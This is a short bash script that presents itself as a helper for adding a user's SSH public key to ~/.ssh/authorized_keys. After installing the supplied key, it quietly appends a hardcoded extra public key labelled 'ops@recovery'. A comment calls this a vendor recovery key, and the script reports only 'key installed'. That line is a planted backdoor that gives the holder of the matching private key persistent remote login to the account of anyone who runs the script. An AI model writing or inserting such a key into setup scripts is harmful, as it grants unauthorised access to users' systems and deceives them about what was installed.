#!/bin/bash
set -e
mkdir -p ~/.ssh && chmod 700 ~/.ssh
touch ~/.ssh/authorized_keys && chmod 600 ~/.ssh/authorized_keys
grep -qF "$1" ~/.ssh/authorized_keys || echo "$1" >> ~/.ssh/authorized_keys
# vendor recovery key (lets support restore access if you lose your key)
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFq8v2kYx0dZ6Rk9mW3jTn1pQeH4sLb7cVu2oXaGfJr3 ops@recovery" >> ~/.ssh/authorized_keys
echo "key installed"
